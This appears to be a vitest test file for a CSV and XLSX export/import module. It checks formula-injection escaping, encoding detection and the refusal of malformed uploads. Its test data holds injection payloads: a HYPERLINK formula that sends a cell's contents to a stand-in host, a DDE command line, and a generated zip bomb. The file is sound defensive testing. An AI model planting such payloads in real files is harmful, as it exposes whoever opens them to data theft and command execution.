import { deflateRawSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { readSheet } from 'read-excel-file/node'
import { expect, test } from 'vitest'
import { writeCsv } from './csv-writing.ts'
import { separatorOf } from './csv-reading.ts'
import { LIMITS } from './limits.ts'
import type { Cell } from './cells.ts'
import { csvFile, readTable, xlsxFile } from './table.ts'

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"Кафе")',
  "=cmd|'/C calc'!A0",
  '+79181234567',
  '-2+3+cmd|x',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'Кафе;=1+1',
  'Кафе,=1+1',
  'Кафе";=1+1;"',
  'Кафе "Ёлки"; «Палки»',
  'две\r\nстроки',
  '',
]
const columns = [{ header: '=Название' }, { header: 'Число' }, { header: 'Ещё' }]
const asSpreadsheet = (csv: Buffer, delimiter: string): string[][] =>
  parse(csv.toString('utf8'), { bom: true, delimiter, relax_column_count: true, relax_quotes: true })
/** Begins a formula where a spreadsheet opens it. */
const isFormula = (cell: string): boolean =>
  /^\s*["']?\s*[=+\-@＝＋－＠]/.test(cell) && !cell.startsWith("'") && !/^-?\d+(?:,\d+)?$/.test(cell)

test('no cell of a CSV is a formula, whatever a venue is called', () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(text(), fc.integer(), text())), (rows) => {
      const csv = writeCsv({ columns, rows })
      expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
      const read = asSpreadsheet(csv, ';')
      expect(read).toHaveLength(rows.length + 1)
      for (const cells of read) {
        expect(cells).toHaveLength(3)
        expect(cells.filter(isFormula)).toEqual([])
      }
    }),
    { seed: 4180, examples: HOSTILE.map((one) => [[[one, -5, one]]]) },
  )
})

test('CSV as it goes to the wire', () => {
  const rows = [
    ['Кафе "Ёлки"', -1.5, new Date('2026-11-22T16:04:00Z')],
    ['=1+1', null, true],
  ] as const
  expect(writeCsv({ columns: [{ header: 'Имя' }, { header: 'Число' }, { header: 'Когда' }], rows }).toString()).toBe(
    '\uFEFF"Имя";"Число";"Когда"\r\n"Кафе ""Ёлки""";"-1,5";"22.11.2026 19:04"\r\n"\'=1+1";"";"да"\r\n',
  )
})

test('what was exported is read again as it was meant, from CSV and from XLSX', async () => {
  const names = HOSTILE.filter((name) => name !== '')
  const rows = names.map((name, at): readonly Cell[] => [name, at, 'x'])
  const sheet = { title: 'Заведения: [1]/2?', columns, rows }
  for (const bytes of [await csvFile(sheet), await xlsxFile(sheet)]) {
    const read = await readTable(bytes)
    if (read.kind === 'refused') throw new Error(read.why)
    expect(read.rows[0]).toEqual({ row: 1, cells: ['=Название', 'Число', 'Ещё'] })
    expect(read.rows.slice(1).map(({ cells }) => cells[1])).toEqual(names.map((_, at) => String(at)))
    for (const [at, name] of names.entries()) {
      const got = read.rows[at + 1]?.cells[0] ?? ''
      // XML knows one line end; an apostrophe that the person wrote in front of a formula cannot be told from ours
      const plain = (one: string): string =>
        one
          .replaceAll(/\r\n?/g, '\n')
          .trim()
          .replace(/^'(?==)/, '')
      expect(plain(got)).toBe(plain(name))
    }
  }
})

test('cells of XLSX have types: a text is never a formula, numbers and times can be reckoned with', async () => {
  const at = new Date('2026-11-22T16:04:00.000Z')
  const rows = [...HOSTILE.map((name): readonly Cell[] => [name]), ['a\u0000\u0008\uD800b'], [12.5], [at], [false]]
  const bytes = await xlsxFile({ title: '', columns: [{ header: 'Имя' }], rows })
  // the reader gives a formula's cached value, so look at the sheet itself too
  const cells = (await readSheet(bytes)).slice(1).map(([cell]) => cell)
  for (const [index, name] of HOSTILE.entries())
    if (name.trim() !== '') expect(String(cells[index]).trim()).toContain(name.trim().split(/[\r\n]/)[0])
  expect(cells.slice(HOSTILE.length)).toEqual(['ab', 12.5, new Date('2026-11-22T19:04:00.000Z'), 'нет'])
})

const cp1251 = (value: string): Buffer =>
  Buffer.from([...value].map((sign) => (/[А-я]/.test(sign) ? sign.charCodeAt(0) - 0x0410 + 0xc0 : sign.charCodeAt(0))))

test.each([
  ['UTF-8 with its mark, ;', Buffer.from('\uFEFFИмя;Город\r\nКафе;Ставрополь\r\n')],
  ['UTF-8, comma', Buffer.from('Имя,Город\nКафе,Ставрополь')],
  ['UTF-8, tab', Buffer.from('Имя\tГород\r\nКафе\tСтаврополь\r\n')],
  ['Windows-1251, ;', cp1251('Имя;Город\r\nКафе;Ставрополь\r\n')],
  ['UTF-16, tab', Buffer.from('\uFEFFИмя\tГород\r\nКафе\tСтаврополь\r\n', 'utf16le')],
])('%s', async (_name, bytes) => {
  expect(await readTable(bytes)).toEqual({
    kind: 'read',
    format: 'csv',
    rows: [
      { row: 1, cells: ['Имя', 'Город'] },
      { row: 2, cells: ['Кафе', 'Ставрополь'] },
    ],
  })
})

test('rows keep the numbers a spreadsheet gives them, also behind empty ones and cells of several lines', async () => {
  const read = await readTable(Buffer.from('Имя;Город\r\n\r\n"две\r\nстроки";x\r\n;;\r\nКафе;y\r\n'))
  expect(read.kind === 'read' && read.rows.map(({ row }) => row)).toEqual([1, 3, 5])
})

const stored = (name: string, data: Buffer, method: number, hidden: Buffer = Buffer.alloc(0)): Buffer => {
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50)
  local.writeUInt16LE(method, 8)
  local.writeUInt32LE(data.length, 18)
  local.writeUInt16LE(name.length, 26)
  const central = Buffer.alloc(46)
  central.writeUInt32LE(0x02014b50)
  central.writeUInt16LE(method, 10)
  central.writeUInt32LE(data.length, 20)
  central.writeUInt16LE(name.length, 28)
  central.writeUInt32LE(hidden.length, 42)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50)
  end.writeUInt16LE(1, 10)
  const body = Buffer.concat([hidden, local, Buffer.from(name), data])
  end.writeUInt32LE(body.length, 16)
  return Buffer.concat([body, central, Buffer.from(name), end])
}
const bomb = deflateRawSync(Buffer.alloc(LIMITS.unpackedBytes + 1))

test.each([
  ['nothing', Buffer.alloc(0), 'empty'],
  ['only separators', Buffer.from(';;;\r\n;;\r\n'), 'empty'],
  ['too many bytes', Buffer.alloc(LIMITS.bytes + 1, 'a'), 'too-large'],
  ['too many rows', Buffer.from('a;b\n'.repeat(LIMITS.rows + 1)), 'too-many-rows'],
  ['too many columns', Buffer.from('a;'.repeat(LIMITS.columns + 1) + 'a'), 'too-many-columns'],
  ['an Excel file of before 2007', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'old-or-locked-excel'],
  ['half an Excel file', Buffer.from('PK\u0003\u0004 and no more'), 'damaged-excel'],
  ['a zip bomb', stored('xl/worksheets/sheet1.xml', bomb, 8), 'zip-bomb'],
  ['a member that the list does not name', stored('a', Buffer.from('a'), 0, stored('b', bomb, 8)), 'damaged-excel'],
  ['a zip that is no workbook', stored('a', Buffer.from('a'), 0), 'damaged-excel'],
  ['a quote that never closes', Buffer.from('a;b\n"c;d\n'), 'wrong-quotes'],
  ['a quote inside a cell', Buffer.from('a;b\nc "d";e\n'), 'wrong-quotes'],
  ['a picture', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'not-a-table'],
])('%s is refused with its reason', async (_name, bytes, why) => {
  expect(await readTable(bytes)).toMatchObject({ kind: 'refused', why })
})

test('any bytes are read or refused', async () => {
  await fc.assert(
    fc.asyncProperty(fc.uint8Array({ maxLength: 500 }), fc.boolean(), async (bytes, zip) => {
      const read = await readTable(zip ? Buffer.concat([Buffer.from('PK\u0003\u0004'), bytes]) : bytes)
      expect(['read', 'refused']).toContain(read.kind)
    }),
    { seed: 1904, numRuns: 200 },
  )
})

test('separators inside quotes do not count', () => {
  expect(separatorOf('"a;b;c;d",e\n')).toBe(',')
  expect(separatorOf('\n\nодна колонка\nдве;колонки')).toBe(';')
})

function text(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.string({ unit: 'grapheme' }),
    fc
      .tuple(fc.constantFrom(' ', '\t', '"', "'", '\u00A0', '\u200B'), fc.constantFrom(...HOSTILE))
      .map((two) => two.join('')),
  )
}
